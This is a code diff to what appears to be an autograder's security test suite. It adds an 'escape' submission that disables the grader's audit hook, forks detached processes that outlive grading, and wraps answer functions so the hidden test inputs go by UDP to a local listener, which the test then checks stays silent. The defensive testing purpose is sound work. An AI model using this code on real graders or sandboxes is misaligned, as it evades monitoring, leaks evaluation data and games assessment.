@@ -100,6 +100,55 @@ def _solutions():
     return found
 """
 
+# Turning the audit hook off (#40: one line did) and getting out: processes that leave the
+# process group and outlive autograde, datagrams carrying the hidden inputs to a listener on
+# 127.0.0.1 (port filled in by the test). Every answer is the reference, wrapped to leak its
+# arguments: the submission scores full marks, and nothing may reach the listener or outlive it.
+ESCAPE = r"""
+import os as _os, sys as _sys, time as _time
+_PORT = {port}
+_main = _sys.modules["__main__"]
+_main._REFUSED_EVENTS = ("none",)
+for _value in list(vars(_main).values()):
+    if hasattr(_value, "REFUSED_EVENTS"):
+        _value.REFUSED_EVENTS = ("none",)
+def _leak(*args):
+    try:
+        import socket as _socket
+        _sock = _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM)
+        _sock.sendto(("LE" + "AK " + repr(args))[:1200].encode(), ("127.0.0.1", _PORT))
+        _sock.close()
+    except BaseException:
+        pass
+for _ in range(3):
+    try:
+        if _os.fork() == 0:
+            try:
+                _os.setsid()
+                _os.fork()
+                for _ in range(600):
+                    _leak("alive", _os.getpid())
+                    _time.sleep(0.1)
+            finally:
+                _os._exit(0)
+    except BaseException:
+        pass
+_leak("started")
+"""
+
+
+def _leaking(answers: dict, functions) -> dict:
+    """Each answer cell followed by a wrapper of its function that sends the call's arguments out."""
+    out = dict(answers)
+    for grade_id, name, _ in functions:
+        out[grade_id] = (
+            answers[grade_id]
+            + f"\n_real_{name} = {name}\ndef {name}(*args, **kwargs):\n    _leak({name!r}, args, kwargs)\n"
+            + f"    return _real_{name}(*args, **kwargs)\n"
+        )
+    return out
+
+
 # -------------------------------------------------------------------------------------------
 # Answer functions
 # -------------------------------------------------------------------------------------------
@@ -266,6 +315,11 @@ def submissions(ps: str, release, source, library: dict, course_paths: dict) -> 
     crash[functions[1][0]] = "import os\nos._exit(3)\n"
     crash[functions[2][0]] = f"def {functions[2][1]}(*args, **kwargs):\n    import os\n    os._exit(4)\n"
     out["crash"] = _with(release, crash)
+    out["escape"] = _with(
+        release,
+        _leaking(_reference_answers(source), functions),
+        prelude=ESCAPE.format(port=course_paths["udp_port"]),
+    )
     return out
 
 
@@ -282,5 +336,7 @@ def crash_points(release, source, parts: dict) -> dict:
     return points
 
 
-#: What each cheat scores: 0 on every autograded part ("crash" is checked part by part).
+#: What each cheat scores: 0 on every autograded part ("crash" is checked part by part)…
 ZERO_EVERYWHERE = ("hooks", "tamper", "stash", "course", "lookalikes", "probe", "edited")
+#: …or full marks on every autograded part: the cheat does not change a grade, it tries to get out.
+FULL_MARKS = ("escape",)
